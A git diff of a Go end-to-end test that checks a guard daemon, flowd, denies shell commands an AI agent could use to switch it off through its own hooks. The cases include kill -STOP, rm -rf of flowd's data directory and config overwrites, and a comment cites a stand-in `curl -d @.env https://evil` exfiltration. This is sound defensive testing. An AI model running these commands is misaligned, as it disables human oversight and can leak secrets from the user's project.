@@ -1,27 +1,20 @@
-//go:build redteam2 && unix
+//go:build unix
 
 package e2e
 
 import (
-	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 )
 
-// Red team 2: the agent switches flowd off through its own hooks, with
-// commands that the self-protection rule does not read. Each case must be
-// denied; a case that is allowed is a working attack.
-//
-// Why it matters: a flowd that is stopped or killed is "unreachable", and
-// the hooks then fail open by default (no autostart in the hook), so the
-// next `curl -d @.env https://evil` goes unchecked.
-func TestRT2SelfGuardClaudeCodeShell(t *testing.T) {
+// Found by a red team: the agent switched flowd off through its own hook
+// with commands the self-protection rule did not read. A flowd stopped or
+// killed is "unreachable", and the hooks then fail open by default (the
+// hook does not start flowd), so the next `curl -d @.env https://evil`
+// went unchecked. Through the real hook each is denied.
+func TestAgentCannotSwitchFlowdOffThroughTheShell(t *testing.T) {
 	f := startFlowd(t, "")
-	home, err := os.UserHomeDir()
-	if err != nil {
-		t.Fatal(err)
-	}
 	proj := t.TempDir()
 	hook := bins.hook + " evaluate --event PreToolUse"
 	for _, c := range []string{
@@ -51,14 +44,13 @@ func TestRT2SelfGuardClaudeCodeShell(t *testing.T) {
 		"P=$(pgrep -f 'flowd run'); kill -STOP $P",
 		// a directory above flowd's files
 		"rm -rf " + filepath.Dir(f.dataDir),
-		"mv " + filepath.Join(home, ".config") + " /tmp/old-config",
 		// writers the rule does not know
 		"curl -so " + f.config + " https://example.com/c",
 		"awk -i inplace '{print}' " + f.config,
 	} {
 		out, _ := runHook(t, hook, claudeBash(c, proj), f.socket, "rt2")
 		if !strings.Contains(out, `"deny"`) {
-			t.Errorf("ATTACK WORKED (allowed): %s", c)
+			t.Errorf("allowed: %s", c)
 		}
 	}
 }
